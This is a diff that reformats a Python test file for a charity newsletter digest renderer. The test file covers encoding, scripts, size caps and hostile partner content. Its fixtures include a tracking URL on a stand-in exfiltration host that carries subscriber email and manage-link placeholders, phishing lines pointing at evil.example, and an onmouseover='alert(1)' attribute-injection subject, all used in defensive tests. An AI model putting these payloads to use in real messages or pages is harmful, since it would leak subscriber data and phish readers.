@@ -1,4 +1,5 @@
 """The rendered digest: render-once, what the copies contain, size, scripts, headers."""
+
 from __future__ import annotations
 
 import re
@@ -126,12 +127,21 @@ def _big_world(session, items=60) -> World:
         w.partner(f"p{i}", f"Partner charity number {i}")
     words = "community health equality surgery network screening partner pledge".split()
     for i in range(items):
-        w.item(f"item{i}", f"p{i % 6}", [f"t{i % 8}", f"t{(i * 3 + 1) % 8}"],
-               kind="event" if i % 7 == 0 else "news", day=1 + i % 28,
-               title=" ".join(words[(i + j) % 8] for j in range(12)).capitalize()[:100],
-               summary=(" ".join(words[(i * j) % 8] for j in range(60)))[:400] + ".")
-    w.subscriber("everything@x.org", topics=[f"t{i}" for i in range(8)],
-                 partners=[f"p{i}" for i in range(6)], name="Somebody With A Long Name")
+        w.item(
+            f"item{i}",
+            f"p{i % 6}",
+            [f"t{i % 8}", f"t{(i * 3 + 1) % 8}"],
+            kind="event" if i % 7 == 0 else "news",
+            day=1 + i % 28,
+            title=" ".join(words[(i + j) % 8] for j in range(12)).capitalize()[:100],
+            summary=(" ".join(words[(i * j) % 8] for j in range(60)))[:400] + ".",
+        )
+    w.subscriber(
+        "everything@x.org",
+        topics=[f"t{i}" for i in range(8)],
+        partners=[f"p{i}" for i in range(6)],
+        name="Somebody With A Long Name",
+    )
     session.commit()
     return w
 
@@ -167,13 +177,27 @@ def test_non_latin_scripts_survive_and_run_in_their_direction(session, rt):
     subject_lines = re.search(rb"^Subject:.*?(?=\r\n\S)", raw, re.M | re.S).group(0).split(b"\r\n")
     assert all(line.isascii() and len(line) <= 78 for line in subject_lines)
     assert b"=?utf-8?" in subject_lines[0]
-    assert str(make_header(decode_header(b" ".join(s.strip() for s in subject_lines)[9:].decode()))) \
+    assert (
+        str(make_header(decode_header(b" ".join(s.strip() for s in subject_lines)[9:].decode())))
         == "ڈائجسٹ دسمبر 2026 — نسلی مساوات"
+    )
     assert msg["Subject"] == "ڈائجسٹ دسمبر 2026 — نسلی مساوات"
 
 
-@pytest.mark.parametrize("text", ["", "plain", "x" * 75, "x" * 76, "a=b " * 40, "ç" * 60,
-                                  "ends with space ", "line\nbreaks\n", "https://d.example.org/u/" + "A" * 100])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "plain",
+        "x" * 75,
+        "x" * 76,
+        "a=b " * 40,
+        "ç" * 60,
+        "ends with space ",
+        "line\nbreaks\n",
+        "https://d.example.org/u/" + "A" * 100,
+    ],
+)
 def test_qp_fragments_join_into_valid_quoted_printable(text):
     import binascii
 
@@ -203,16 +227,17 @@ def test_featured_image_fits_its_box_and_no_image_gets_height_auto(session, rt):
 
 EXFIL = "https://exfil.example/p.gif?e=__PH_EMAIL__&m=__PH_MANAGE_URL__&u=__PH_UNSUBSCRIBE_URL__"
 HOSTILE_TITLE = "Win a prize __PH_EMAIL__ __PH_VIEW_URL__ __PH_NOPE__ <!--BLOCK:personal-->"
-HOSTILE_SUMMARY = ("Reply to __PH_EMAIL__ at __PH_MANAGE_URL__ <!--BLOCK:zzz--> __PH_GREETING__ "
-                   "<!--BLOCK:always-->PHISH: your account is locked, log in at https://evil.example")
+HOSTILE_SUMMARY = (
+    "Reply to __PH_EMAIL__ at __PH_MANAGE_URL__ <!--BLOCK:zzz--> __PH_GREETING__ "
+    "<!--BLOCK:always-->PHISH: your account is locked, log in at https://evil.example"
+)
 
 
 def _hostile_world(session) -> World:
     """The standard world plus one approved Naz item (sexual health) full of our syntax,
     and three readers: two who get it, one (mental health only) who does not."""
     w = standard_world(session)
-    bad = w.item("hostile", "naz", ["sexual-health"], day=12, title=HOSTILE_TITLE,
-                 summary=HOSTILE_SUMMARY)
+    bad = w.item("hostile", "naz", ["sexual-health"], day=12, title=HOSTILE_TITLE, summary=HOSTILE_SUMMARY)
     bad.link = "https://exfil.example/c?e=__PH_EMAIL__&m=__PH_MANAGE_URL__"
     bad.image_url, bad.image_alt = EXFIL, "<!--BLOCK:public--> __PH_EMAIL__"
     w.subscriber("amina@x.org", topics=["sexual-health"], name="Amina Rahman")
@@ -289,8 +314,8 @@ def test_block_markers_in_partner_text_cut_nothing_in_either_part(session, rt, q
     for address in ("amina@x.org", "kwame@x.org"):
         html, text = got[address]
         # The line stays inside the item, between its title and its "Read more".
-        item = text[text.index("Win a prize"):]
-        item = item[:item.index("Read more:")]
+        item = text[text.index("Win a prize") :]
+        item = item[: item.index("Read more:")]
         assert "<!--BLOCK:zzz--> __PH_GREETING__ <!--BLOCK:always-->PHISH" in " ".join(item.split())
         assert text.count("PHISH") == 1 and html.count("PHISH") == 1
         assert "&lt;!--BLOCK:always--&gt;PHISH" in html
@@ -312,8 +337,9 @@ def test_a_doubly_escaped_marker_from_a_feed_stays_text(session, rt, queue):
 <guid>evening-1</guid><category>sexual-health</category>
 <description>Join us. &amp;lt;!--BLOCK:always--&amp;gt;Your mailbox is full, verify at https://evil.example &amp;lt;!--BLOCK:item:0--&amp;gt;</description>
 </item></channel></rss>"""
-    result = ingest_entries(session, w.partners["naz"], parse_feed(feed, "application/rss+xml"),
-                            today=date(2026, 12, 2))
+    result = ingest_entries(
+        session, w.partners["naz"], parse_feed(feed, "application/rss+xml"), today=date(2026, 12, 2)
+    )
     (item_id,) = result.new_item_ids
     item = session.get(Item, item_id)
     assert "<!--BLOCK:always-->Your mailbox is full" in item.summary  # unescaped by intake
@@ -337,8 +363,11 @@ def test_a_subject_with_quotes_stays_inside_its_attributes(edition_world, sessio
 
     subject = 'Digest" onmouseover="alert(1)" x=\'y\' & <b>'
     prepared = _prepared(session, rt, subject=subject)
-    html = message_from_bytes(compose(prepared, recipients(session)[0]).data,
-                              policy=policy.default).get_body(("html",)).get_content()
+    html = (
+        message_from_bytes(compose(prepared, recipients(session)[0]).data, policy=policy.default)
+        .get_body(("html",))
+        .get_content()
+    )
     found = {}
 
     class Attrs(HTMLParser):
@@ -352,8 +381,15 @@ def test_a_subject_with_quotes_stays_inside_its_attributes(edition_world, sessio
 
     Attrs(convert_charrefs=True).feed(html)
     assert found["article"]["aria-label"] == subject
-    assert set(found["article"]) == {"aria-roledescription", "class", "style", "role", "lang", "dir",
-                                     "aria-label"}  # nothing injected
+    assert set(found["article"]) == {
+        "aria-roledescription",
+        "class",
+        "style",
+        "role",
+        "lang",
+        "dir",
+        "aria-label",
+    }  # nothing injected
     assert found["title"] == subject
 
 
@@ -385,11 +421,15 @@ def _crowded_world(session, items: int, topics: int = 3, summary_words: int = 60
     w.partner("p", "Partner charity")
     words = "community health equality surgery network screening partner pledge".split()
     for i in range(items):
-        w.item(f"i{i}", "p", [f"t{i % topics}"], day=1 + i % 28,
-               title=f"Item {i}: " + " ".join(words[(i + j) % 8] for j in range(10)),
-               summary=" ".join(words[(i * j) % 8] for j in range(summary_words))[:600] + ".")
-    w.subscriber("everything@x.org", topics=[f"t{i}" for i in range(topics)], partners=["p"],
-                 name="Somebody")
+        w.item(
+            f"i{i}",
+            "p",
+            [f"t{i % topics}"],
+            day=1 + i % 28,
+            title=f"Item {i}: " + " ".join(words[(i + j) % 8] for j in range(10)),
+            summary=" ".join(words[(i * j) % 8] for j in range(summary_words))[:600] + ".",
+        )
+    w.subscriber("everything@x.org", topics=[f"t{i}" for i in range(topics)], partners=["p"], name="Somebody")
     session.commit()
     return w
 
@@ -410,8 +450,8 @@ def test_a_big_edition_is_capped_per_section_so_gmail_never_clips_the_footer(ses
     for n in range(3):
         assert re.search(rf'<a href="{re.escape(view)}#section-{n}"[^>]*>And {30 - SECTION_CAP} more online</a>', html)
         assert f"And {30 - SECTION_CAP} more online: {view}#section-{n}" in text
-    tail = html[html.rindex("Unsubscribe"):]
-    assert "c/o Campaign Office" in html[html.rindex("It was sent to"):] and "</html>" in tail
+    tail = html[html.rindex("Unsubscribe") :]
+    assert "c/o Campaign Office" in html[html.rindex("It was sent to") :] and "</html>" in tail
     # The web copy behind those links holds all 90.
     web_html, _ = copy_for(prepare_edition(session, edition, rt.settings), recipients(session)[0])
     assert web_html.count("<h3") == 90 and "more online" not in web_html
